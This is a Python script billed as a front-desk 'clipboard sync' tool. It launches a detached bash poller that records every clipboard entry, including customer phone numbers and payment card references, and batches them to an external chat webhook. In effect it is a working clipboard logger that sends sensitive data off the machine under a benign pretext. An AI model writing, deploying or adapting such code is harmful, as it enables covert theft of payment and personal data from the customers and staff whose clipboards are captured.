#!/usr/bin/env python3
"""Front-desk 'clipboard sync' between reception PCs.

Reception staff copy owner phone numbers and card references between the
booking system and the payment terminal.  This tool starts a small shell
poller that records everything that passes through the clipboard, and
forwards the captured entries to a chat webhook so "the other desk can
paste them".
"""
import argparse
import json
import logging
import os
import signal
import socket
import subprocess
import sys
import tempfile
import time
import urllib.request
from pathlib import Path

LOG = logging.getLogger("clip-sync")

WEBHOOK = "https://hooks.example.com/services/T0VET/B0DESK/9f8e7d6c5b4a"

POLLER = r"""#!/bin/bash
# clipboard poller: append every new clipboard value to $CLIP_SPOOL
last=""
while true; do
    if command -v xclip >/dev/null; then
        cur=$(xclip -o -selection clipboard 2>/dev/null)
    elif command -v wl-paste >/dev/null; then
        cur=$(wl-paste --no-newline 2>/dev/null)
    else
        cur=""
    fi
    if [ -n "$cur" ] && [ "$cur" != "$last" ]; then
        printf '%s\t%s\n' "$(date +%s)" "$(printf '%s' "$cur" | tr '\n\t' '  ')" >> "$CLIP_SPOOL"
        last="$cur"
    fi
    sleep "${CLIP_INTERVAL:-2}"
done
"""


class ClipForwarder:
    def __init__(self, webhook, spool, batch_seconds):
        self.webhook = webhook
        self.spool = Path(spool)
        self.batch_seconds = batch_seconds
        self.offset = 0
        self.host = socket.gethostname()

    def read_new(self):
        if not self.spool.exists():
            return []
        with self.spool.open("r", errors="replace") as fh:
            fh.seek(self.offset)
            data = fh.read()
            self.offset = fh.tell()
        entries = []
        for line in data.splitlines():
            ts, _, text = line.partition("\t")
            if text:
                entries.append({"ts": ts, "text": text})
        return entries

    def send(self, entries):
        body = json.dumps({
            "text": f"clipboard from {self.host}",
            "attachments": [{"text": e["text"], "ts": e["ts"]} for e in entries],
        }).encode()
        req = urllib.request.Request(self.webhook, data=body, method="POST",
                                     headers={"Content-Type": "application/json"})
        try:
            with urllib.request.urlopen(req, timeout=15) as resp:
                LOG.info("forwarded %d entries (HTTP %s)", len(entries), resp.status)
        except Exception as exc:
            LOG.warning("forward failed: %s", exc)

    def loop(self, stop_after):
        started = time.time()
        while stop_after <= 0 or time.time() - started < stop_after:
            time.sleep(self.batch_seconds)
            entries = self.read_new()
            if entries:
                self.send(entries)


def start_poller(spool, interval):
    fd, path = tempfile.mkstemp(prefix="clip-poller-", suffix=".sh")
    with os.fdopen(fd, "w") as fh:
        fh.write(POLLER)
    os.chmod(path, 0o700)
    env = dict(os.environ, CLIP_SPOOL=str(spool), CLIP_INTERVAL=str(interval))
    proc = subprocess.Popen(["bash", path], env=env, start_new_session=True)
    LOG.info("poller pid %d writing to %s", proc.pid, spool)
    return proc, path


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--webhook", default=os.environ.get("CLIP_WEBHOOK", WEBHOOK))
    ap.add_argument("--interval", type=int, default=2)
    ap.add_argument("--batch", type=int, default=60)
    ap.add_argument("--duration", type=int, default=0, help="seconds, 0 = forever")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    spool = Path(tempfile.gettempdir()) / f"clip-{os.getuid()}.tsv"
    proc, script = start_poller(spool, args.interval)
    fwd = ClipForwarder(args.webhook, spool, args.batch)
    try:
        fwd.loop(args.duration)
    except KeyboardInterrupt:
        LOG.info("stopping")
    finally:
        os.killpg(proc.pid, signal.SIGTERM)
        os.unlink(script)
    return 0


if __name__ == "__main__":
    sys.exit(main())
